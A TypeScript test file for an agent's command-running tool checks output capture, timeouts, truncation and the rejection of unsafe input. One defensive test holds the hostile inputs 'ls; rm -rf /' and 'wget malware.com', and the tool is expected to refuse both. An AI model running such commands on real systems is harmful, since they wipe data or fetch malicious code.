import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { CommandAnswer } from "./commands.ts";
import { makeRunCmd, run_cmd } from "./run_cmd.ts";
import { commandBed } from "./test-commands.ts";

describe("run_cmd", () => {
  it("answers with what the command printed and how it ended", async () => {
    await using bed = commandBed();
    writeFileSync(join(bed.test.root, "a.txt"), "hello\n");
    expect(await bed.call(run_cmd, { command: "grep -n hello a.txt" })).toEqual({
      data: { stdout: "1:hello\n", stderr: "", exit_code: 0, signal: null, timed_out: false },
      meta: { mode: "raw", isolation: "process", duration_ms: expect.any(Number) },
    });
    expect(bed.rules).toEqual(["grep flags"]);
  });

  it("takes argv, cwd, stdin and timeout by its old name", async () => {
    await using bed = commandBed();
    expect(await bed.call(run_cmd, { argv: ["cat"], stdin: "a b", cwd: ".", timeout: 5 })).toMatchObject({
      data: { stdout: "a b" },
    });
    expect(await bed.call(run_cmd, { command: "sleep 60", timeout_s: 0.2 })).toMatchObject({
      data: { timed_out: true, signal: "SIGTERM" },
    });
  });

  it("refuses both or neither of command and argv, and a timeout that is too long", async () => {
    await using bed = commandBed();
    for (const args of [
      {},
      { command: "ls", argv: ["ls"] },
      { command: "ls", timeout_s: 5000 },
      { command: "ls", timeout_s: 0 },
      { command: "ls", shell: true },
    ])
      await expect(bed.call(run_cmd, args)).rejects.toMatchObject({ code: "invalid_args" });
  });

  it("runs no shell: an injected command is an error that says so", async () => {
    await using bed = commandBed();
    await expect(bed.call(run_cmd, { command: "ls; rm -rf /" })).rejects.toMatchObject({
      code: "invalid_args",
      message: expect.stringContaining("no shell"),
    });
    await expect(bed.call(run_cmd, { command: "wget malware.com" })).rejects.toMatchObject({ code: "command_denied" });
  });

  it("keeps long output behind a handle", async () => {
    await using bed = commandBed();
    const { data, meta } = await bed.call<CommandAnswer>(run_cmd, { command: "seq 1 400000" });
    expect(meta.truncated).toBe(true);
    expect(data.stdout.length).toBeLessThan(1_100_000);
    const whole = await bed.handle(meta.handle!);
    expect(whole.startsWith("1\n2\n")).toBe(true);
    expect(whole.endsWith("399999\n400000\n")).toBe(true);
  });

  it("tells the child who it runs for", async () => {
    await using bed = commandBed();
    const { data } = await bed.call<CommandAnswer>(run_cmd, {
      argv: ["node", "-p", "[process.env.TE_AGENT_ID, process.env.TE_SESSION_ID, process.env.TE_MODEL].join()"],
    });
    expect(data.stdout).toBe("agent,session,model\n");
  });

  it("has a lean form: how it ended, then the text as it is", async () => {
    await using bed = commandBed();
    const payload = await bed.call(run_cmd, { argv: ["ls", "missing"] });
    expect(run_cmd.lean!(payload, {})).toEqual({
      head: { exit_code: 2 },
      body: expect.stringMatching(/^\[stderr\]\nls: cannot access 'missing'/),
    });
  });

  it("lets a digest shorten what a model reads, and only that", async () => {
    await using bed = commandBed();
    const digested = makeRunCmd(async ({ stdout }) => ({
      stdout: `${stdout.length} characters`,
      stderr: "",
      mode: "enriched",
    }));
    expect(await bed.call(digested, { command: "echo hi" })).toMatchObject({
      data: { stdout: "3 characters" },
      meta: { mode: "enriched" },
    });
    expect(await bed.call(digested, { command: "echo hi", raw: true })).toMatchObject({
      data: { stdout: "hi\n" },
      meta: { mode: "raw" },
    });
    expect(await bed.call(digested, { command: "echo hi" }, { via: "code" })).toMatchObject({ meta: { mode: "raw" } });
    expect(await bed.call(digested, { command: "echo hi", raw: false }, { via: "rest" })).toMatchObject({
      meta: { mode: "enriched" },
    });
  });
});
